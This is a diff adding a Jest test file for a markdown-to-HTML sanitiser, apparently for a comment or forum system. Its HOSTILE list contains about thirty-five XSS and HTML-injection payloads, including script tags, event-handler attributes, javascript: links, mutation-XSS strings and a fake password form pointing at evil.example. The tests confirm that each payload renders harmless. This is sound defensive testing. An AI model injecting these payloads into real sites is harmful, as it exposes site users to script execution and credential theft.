@@ -1,0 +1,62 @@
+import { describe, expect, it } from '@jest/globals';
+import { bodyHtml, excerpt, quoted } from './markdown.js';
+
+const HOSTILE = [
+  '<script>alert(1)</script>', '<ScRiPt src=//evil.example></sCrIpT>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<iframe srcdoc="<script>1</script>">', '<a href="javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\nscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](data:text/html,<script>1</script>)', '[x](vbscript:x)', '[x](//evil.example)',
+  '![x](http://evil.example/x.png)', '![x](x"onerror="alert(1))', '[x](http://a.example "onmouseover=alert(1)")', '[x](http://a.example\'onclick=\'alert(1))', '<http://a.example/"onclick="alert(1)>',
+  '`<script>alert(1)</script>`', '```\n<script>alert(1)</script>\n```', '<style>*{display:none}</style>', '<form action=//evil.example><input name=password>', '<base href=//evil.example>', '<meta http-equiv=refresh content=0>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--<img src="--><img src=x onerror=alert(1)//">', '<x onpointerenter=alert(1)>',
+  '<details open ontoggle=alert(1)>', '<object data=//evil.example>', '<embed src=//evil.example>', '<link rel=stylesheet href=//evil.example>', '| a |\n|---|\n| <b onclick=alert(1)>x</b> |', '<p style="position:fixed">x</p>', '<div id="post-1" class="notice">x</div>',
+];
+
+/** Only what we allow, with only the attributes we allow, whatever was written. */
+const SAFE = /^(?:[^<>]|<\/?(?:p|br|em|strong|s|blockquote|ul|ol|li|code|pre|hr|h3|h4|h5) ?\/?>|<ol start="\d+">|<a href="(?:https?:|tel:|sms:|\/)[^"<>]*" rel="nofollow ugc noopener noreferrer" class="out">|<\/a>)*$/;
+
+describe('what a person wrote', () => {
+  it('keeps its paragraphs, stress, quotes and lists', () => {
+    const html = bodyHtml('One **strong** and *soft* line\nand the next\n\n> quoted\n\n- a\n- b\n\n3. third');
+    for (const part of ['<strong>strong</strong>', '<em>soft</em>', '<br', '<blockquote>', '<ul>', '<ol start="3">']) expect(html).toContain(part);
+    expect(html).toMatch(SAFE);
+  });
+
+  it('has its headings below the post’s own', () => {
+    expect(bodyHtml('# One\n\n## Two')).toBe('<h3>One</h3>\n<h4>Two</h4>');
+  });
+
+  it('marks links as leading elsewhere, and makes none of a mail address', () => {
+    expect(bodyHtml('https://example.org/x')).toContain('<a href="https://example.org/x" rel="nofollow ugc noopener noreferrer" class="out">');
+    expect(bodyHtml('me@example.org and example.org')).not.toContain('<a');
+  });
+
+  it.each(HOSTILE)('comes out harmless: %s', (text) => {
+    const html = bodyHtml(text);
+    expect(html).toMatch(SAFE);
+  });
+
+  it('is read in time that grows with its length', () => {
+    for (const nest of ['>'.repeat(10_000), '['.repeat(10_000), '*a '.repeat(5_000), '- '.repeat(5_000)]) {
+      const began = performance.now();
+      expect(bodyHtml(nest).length).toBeGreaterThan(0);
+      expect(performance.now() - began).toBeLessThan(3_000);
+    }
+  });
+});
+
+describe('a quote', () => {
+  it('has each line behind its mark and leaves out what was quoted before', () => {
+    expect(quoted('first\n\n> older words\nlast')).toBe('> first\n>\n> last');
+  });
+
+  it('is short', () => {
+    expect(quoted('word '.repeat(5_000)).length).toBeLessThanOrEqual(1_200);
+  });
+});
+
+describe('the first words', () => {
+  it('come without marks, whole, and say that more follows', () => {
+    expect(excerpt('# A **title**\n\n> and [more](x)')).toBe('A title and more x');
+    const cut = excerpt('several words that go on and on', 15);
+    expect(cut).toBe('several words …');
+  });
+});
